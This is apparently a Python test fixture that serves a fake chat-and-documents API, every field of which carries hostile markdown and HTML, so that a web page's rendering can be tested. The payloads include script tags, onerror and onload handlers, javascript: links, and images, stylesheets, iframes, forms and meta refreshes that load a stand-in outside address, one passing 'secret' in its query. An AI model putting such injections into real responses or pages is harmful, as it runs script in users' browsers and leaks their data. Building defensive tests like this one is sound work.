"""A gateway every word of which is hostile, for a test of what the page does with them. It speaks the calls that the page makes."""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

OUTSIDE = "http://203.0.113.9"  # an address of nobody (RFC 5737)
WORDS = "\n\n".join((
    "![picture](OUT/a.png?q=secret) ![ref][r] [link](OUT/b) [run](javascript:window.pwned=1) <OUT/c> OUT/d [1]",
    '<img src="OUT/e.png" onerror="window.pwned=1"> <script>window.pwned=1</script> [1]',
    '<svg onload="window.pwned=1"><image href="OUT/f"/></svg> <link rel="stylesheet" href="OUT/i.css">',
    "<style>@import url(OUT/g.css); .answer { background: url(OUT/h.png) }</style>",
    '<iframe src="OUT/j"></iframe> <p style="background-image: url(OUT/k.png)">styled</p> <base href="OUT/"> **bold** `code`',
    '<a href="OUT/l" ping="OUT/m">anchor</a> <form action="OUT/n"><button>send</button></form>',
    '<meta http-equiv="refresh" content="0;OUT/t">',
    "[r]: OUT/o.png",
    "```html\n<img src=OUT/p.png>\n```",
    "# heading <img src=OUT/q.png>\n\n- item ![i](OUT/r.png)\n\n:material/bolt: $\\href{OUT/s}{x}$ [1]",
)).replace("OUT", OUTSIDE)  # fmt: skip
NAME = f"<img src={OUTSIDE}/doc.png> ![d]({OUTSIDE}/d.png).md"
CITATION = {"marker": 1, "chunk_id": "v:0", "document": NAME, "version": "v", "page": None, "start": 0, "end": 5, "quote": WORDS,
            "support": "supported", "by": "model"}  # fmt: skip
ASSISTANT = {"kind": "assistant", "title": "Hostile", "description": WORDS, "languages": ["en"], "documents": 1, "examples": [WORDS[:300]]}
DOCUMENT = {"document": NAME, "version": "v", "title": WORDS[:400], "pages": None, "chunks": 1, "lang": "en", "added": "2026-01-01"}
PASSAGE = {"document": NAME, "title": WORDS[:200], "page": None, "section": WORDS[:200], "header": WORDS[:99],
           "before": WORDS, "quote": WORDS, "after": WORDS}  # fmt: skip
ANSWERS: dict[str, Any] = {
    "/health": {"version": "0", "model": {"up": True, "name": f"<img src={OUTSIDE}/model.png>"}, "chroma": True},
    "/v1/models": {"data": [{"id": "hostile", "lectern": ASSISTANT}]},
    "/v1/corpora/hostile/documents": {"documents": [DOCUMENT]},
    "/v1/corpora/hostile/versions/v/passage": PASSAGE,
    "/v1/conversations/ID": {"turns": [], "files": [{**DOCUMENT, "version": "w"}]},
}


@contextmanager
def hostile_gateway(mode: str = "model") -> Iterator[str]:
    """Its address. `mode`: whether the answer is called a model's or quoted."""
    last = {"citations": [CITATION], "trace_id": "t", "mode": mode, "refused": False, "notice": WORDS[:200]}
    chunks = [{"choices": [{"delta": {"content": WORDS}}]}, {"choices": [{"delta": {}, "finish_reason": "stop"}], **last}]

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = re.sub("[0-9a-f]{32}", "ID", self.path.partition("?")[0])
            self._send(json.dumps(ANSWERS[path]), "application/json")

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["content-length"]))
            self._send("".join(f"data: {json.dumps(c)}\n\n" for c in chunks) + "data: [DONE]\n\n", "text/event-stream")

        def _send(self, text: str, kind: str) -> None:
            self.send_response(200)
            self.send_header("content-type", kind)
            self.send_header("content-length", str(len(text.encode())))
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
